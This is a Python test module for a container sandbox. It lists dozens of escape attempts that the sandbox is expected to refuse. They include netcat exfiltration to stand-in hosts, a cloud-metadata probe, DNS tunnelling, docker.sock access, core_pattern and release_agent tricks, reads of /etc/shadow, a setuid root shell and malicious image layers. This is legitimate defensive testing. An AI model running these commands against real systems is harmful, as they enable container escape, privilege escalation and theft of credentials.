"""Attacks on the walls: the network, the kernel, the file system, the image's own settings."""

from __future__ import annotations

import errno
import socket
import struct
from collections.abc import Sequence

from app.execution.contract import ReasonCode, RunResult
from tests.factories.containers import Entry, busybox_path
from tests.hostile.programs import HARMLESS, PREVIOUS, Call, call, program, unix_address
from tests.hostile.rows import OK, Attack, refused
from tests.hostile.witness import Witness

_STREAM = socket.SOCK_STREAM
_NO = (errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EAFNOSUPPORT, errno.EINVAL, errno.ESRCH)
_NOBODY_THERE = (errno.ENOENT, errno.ECONNREFUSED, errno.ENETUNREACH, errno.ENODEV)


def _refused_with(errors: Sequence[int]) -> object:
    def check(result: RunResult, witness: Witness) -> None:
        told = witness.log.decode(errors="replace")
        assert any(f"refused with {number}\n" in told for number in errors), told

    return check


def _calls(
    name: str, does: str, *calls: Call, errors: Sequence[int] = _NO, sample: bool = False
) -> Attack:
    """A program makes the calls; the kernel has to refuse one of them by one of these errors."""
    return Attack(
        name=name,
        does=does,
        script=refused("/attack"),
        honest="/harmless",
        ends=ReasonCode.SUCCEEDED,
        layer={"attack": program(*calls), "harmless": HARMLESS},
        storages=("host",),
        also=_refused_with(errors),  # type: ignore[arg-type]
        sample=sample,
    )


def _tries(name: str, does: str, attempt: str, *, honest: str = "cat /proc/self/stat") -> Attack:
    return Attack(
        name=name,
        does=does,
        script=refused(attempt),
        honest=honest,
        ends=ReasonCode.SUCCEEDED,
        says="refused with",
        storages=("host",),
    )


def _reaches(name: str, does: str, attempt: str, *, sample: bool = False) -> Attack:
    return Attack(
        name=name,
        does=does,
        script=f"{attempt} || exit 1",
        honest="cat /proc/net/route",
        ends=ReasonCode.NETWORK,
        sample=sample,
    )


NETWORK = (
    _reaches("network-ipv4", "connects to an address", "nc -w 2 198.51.100.1 80 < /bin/sh"),
    _reaches(
        "network-metadata",
        "asks the cloud's metadata service for keys",
        "nc -w 2 169.254.169.254 80",
        sample=True,
    ),
    _reaches("network-bridge", "connects to the engine's bridge", "nc -w 2 172.17.0.1 2375"),
    _reaches("network-names", "asks for the address of a name", "nslookup example.org"),
    _reaches("network-dns-tunnel", "sends data in names", "ping -c 1 secret.example.org"),
    _calls(
        "network-ipv6",
        "connects to an address of IPv6",
        call(41, socket.AF_INET6, _STREAM, 0),
        call(42, PREVIOUS, struct.pack("<HHI", 10, 80, 0) + b"\x20\x01\x0d\xb8" + bytes(16), 28),
        errors=(errno.EAFNOSUPPORT, errno.ENETUNREACH, errno.EADDRNOTAVAIL),
    ),
    Attack(
        name="network-loopback",
        does="connects to a program of the worker on 127.0.0.1",
        script=f"nc -w 2 127.0.0.1 {{port}} < /bin/sh && exit 77; {OK}",
        ends=ReasonCode.SUCCEEDED,
        says="refused",
    ),
    _calls(
        "network-engine-socket",
        "connects to the engine's socket",
        call(41, socket.AF_UNIX, _STREAM, 0),
        call(42, PREVIOUS, unix_address(b"/var/run/docker.sock"), 23),
        errors=_NOBODY_THERE,
    ),
    _calls(
        "network-raw",
        "makes a raw socket, to forge packets",
        call(41, socket.AF_INET, socket.SOCK_RAW, 1),
    ),
    _calls("network-packet", "listens to the wire", call(41, socket.AF_PACKET, socket.SOCK_RAW, 3)),
    _calls(
        "network-hypervisor",
        "speaks with the machine's own host through its virtual socket",
        call(41, 40, _STREAM, 0),
    ),
)

KERNEL = (
    _calls(
        "mount", "mounts a file system", call(165, b"none", b"/tmp", b"tmpfs", 0, 0), sample=True
    ),
    _calls("unmount", "takes its own walls down", call(166, b"/proc", 2)),
    _calls("pivot-root", "changes its root", call(155, b"/", b"/tmp")),
    _calls("change-root", "changes its root as of old", call(161, b"/tmp")),
    _calls("user-namespace", "becomes root of a world of its own", call(272, 0x10000000)),
    _calls("mount-namespace", "makes a mount namespace", call(272, 0x00020000)),
    _calls("set-user", "becomes root by asking", call(105, 0)),
    _calls("set-group", "becomes a member of root's group", call(106, 0)),
    _calls("trace-a-stranger", "traces a process of the worker", call(101, 16, 1 << 21, 0, 0)),
    _calls("read-a-stranger", "opens files by handles", call(304, -100, bytes(16), 0)),
    _calls("keyrings", "keeps a key in the kernel", call(248, b"user", b"k", b"v", 1, -3)),
    _calls("keyring-of-session", "joins another session's keys", call(250, 1, b"_ses")),
    _calls("bpf", "loads a program into the kernel", call(321, 5, bytes(64), 64)),
    _calls("perf", "watches the kernel", call(298, bytes(128), 0, -1, -1, 0)),
    _calls("module", "loads a kernel module", call(175, bytes(64), 64, b"")),
    _calls("new-kernel", "loads another kernel", call(246, 0, 0, 0, 0)),
    _calls("reboot", "restarts the machine", call(169, 0xFEE1DEAD, 0x28121969, 0x1234567)),
    _calls("clock", "sets the clock", call(227, 0, bytes(16))),
    _calls("host-name", "renames the machine", call(170, b"evil", 4)),
    _calls("kernel-log", "reads the kernel's log", call(103, 3, bytes(512), 512)),
    _calls("swap", "takes the swap away", call(168, b"/dev/sda")),
    _calls("faults", "handles page faults of the kernel", call(323, 0)),
    _calls("device", "makes the host's disk", call(133, b"/tmp/disk", 0o60666, 254 << 8)),
    _calls("rings", "opens a ring of requests that no filter sees", call(425, 8, bytes(128))),
    _calls("ports", "speaks with the hardware", call(172, 3)),
    _calls("priority", "puts itself before all others", call(141, 0, 0, -20)),
)

FILES = (
    *(
        Attack(
            name=f"writes-to-{place.strip('/').replace('/', '-')}",
            does=f"writes to {place}",
            script=f"touch {place}/evil || exit 1",
            honest="touch /tmp/good",
            ends=ReasonCode.READ_ONLY,
            says=f"`{place}/evil`",
            layer={"opt/x": Entry(content=b"x", uid=1000)},
            sample=place == "/input",
        )
        for place in ("/bin", "/home/user", "/input")
    ),
    _tries("proc-panic", "makes the kernel panic", "echo 1 > /proc/sys/kernel/panic"),
    _tries("proc-sysrq", "presses the kernel's buttons", "echo c > /proc/sysrq-trigger"),
    _tries(
        "proc-core", "has the kernel start a program", "echo '|/x' > /proc/sys/kernel/core_pattern"
    ),
    _tries("proc-kcore", "reads the kernel's memory", "head -c 1 /proc/kcore | grep -q ."),
    _tries("proc-keys", "lists the kernel's keys", "grep -q . /proc/keys"),
    _tries(
        "proc-oom", "makes itself the last to be killed", "echo -1000 > /proc/self/oom_score_adj"
    ),
    _tries("proc-root", "leaves by the root of the first process", "cat /proc/1/root{secret}"),
    _tries("proc-memory", "writes into the first process", "echo x > /proc/1/mem"),
    _tries("sys-firmware", "reads the firmware", "ls /sys/firmware | grep -q ."),
    _tries("sys-module", "changes a module", "echo 1 > /sys/module/kernel/parameters/panic"),
    _tries("sys-power", "sends the machine to sleep", "echo mem > /sys/power/state"),
    _tries(
        "control-group-limits",
        "lifts its own limits",
        "(echo -1 > /sys/fs/cgroup/memory/memory.limit_in_bytes"
        " || echo max > /sys/fs/cgroup/memory.max || echo max > /sys/fs/cgroup/pids/pids.max)",
    ),
    _tries(
        "control-group-release",
        "has the kernel start a program when a group is empty",
        "(mkdir /sys/fs/cgroup/memory/x || echo /x > /sys/fs/cgroup/memory/release_agent)",
    ),
    _tries("devices", "opens memory and disks", "(head -c 1 /dev/mem || head -c 1 /dev/vda)"),
    _tries("file-of-worker", "reads a file of the worker", "cat {secret}"),
    _tries("shadow", "reads the passwords", "cat /etc/shadow"),
    Attack(
        name="set-user-id-program",
        does="brings a program that runs as root whoever starts it",
        script=f'test "$(/root-shell id -u)" = 0 && exit 77; /root-shell id -u; {OK}',
        honest="/bin/busybox id -u",
        ends=ReasonCode.SUCCEEDED,
        layer={"root-shell": Entry(content=busybox_path().read_bytes(), mode=0o6755)},
    ),
)

SETTINGS = (
    *(
        Attack(
            name=f"working-folder-{number}",
            does="starts in a folder that the engine has open on the host",
            is_image=True,
            script=f"cat ../../../../../../../..{{secret}} ../../..{{secret}}; pwd; {OK}",
            honest="pwd",
            ends=ReasonCode.ENTRYPOINT,
            says="WORKDIR",
            image={"working_dir": f"/proc/self/fd/{number}"},
        )
        for number in (7, 8)
    ),
    Attack(
        name="takes-over-a-tag",
        does="names itself like another image of the engine",
        script=OK,
        ends=ReasonCode.SUCCEEDED,
        image={"tags": ["{tag}"]},
        sample=True,
    ),
    Attack(
        name="environment",
        does="sets variables that steer the loader and the engine",
        script=f"env; {OK}",
        ends=ReasonCode.SUCCEEDED,
        image={
            "env": [
                "PATH=/bin",
                "LD_PRELOAD=/tmp/x.so",
                "NVIDIA_VISIBLE_DEVICES=all",
                "HOME=/input",
            ]
        },
    ),
    Attack(
        name="layer-writes-through-a-link",
        is_image=True,
        does="has a layer with a link out of the image, and a second one with a file behind it",
        script=f"ls / ; {OK}",
        ends=ReasonCode.SUCCEEDED,
        layer={"way": Entry(kind=b"2", link="{outside}", mode=0o777)},
        second_layer={"way/evil": Entry(content=b"evil")},
    ),
    Attack(
        name="layer-climbs",
        is_image=True,
        does="has layer entries with absolute and climbing names",
        script=f"ls / ; {OK}",
        ends=(ReasonCode.SUCCEEDED, ReasonCode.INPUT),
        second_layer={"{outside}/evil": Entry(content=b"evil"), "./tmp/../x": Entry(content=b"x")},
    ),
    Attack(
        name="layer-whiteouts",
        is_image=True,
        does="deletes what it may not by the names that delete in layers",
        script=f"ls / ; {OK}",
        ends=(ReasonCode.SUCCEEDED, ReasonCode.INPUT),
        layer={"way": Entry(kind=b"2", link="{outside}", mode=0o777)},
        second_layer={"way/.wh.secret": Entry(), "x/.wh..wh..opq": Entry(), ".wh.way": Entry()},
    ),
    Attack(
        name="input-is-a-link",
        is_image=True,
        does="makes /output and /input links to folders of the host",
        script=f"ls /input; touch /input/evil; {OK}",
        ends=(ReasonCode.SUCCEEDED, ReasonCode.OUTPUT, ReasonCode.EXIT_CODE, ReasonCode.READ_ONLY),
        layer={
            "input": Entry(kind=b"2", link="{outside}", mode=0o777),
            "output": Entry(kind=b"2", link="/etc", mode=0o777),
        },
    ),
)

DOORS = NETWORK + KERNEL + FILES + SETTINGS
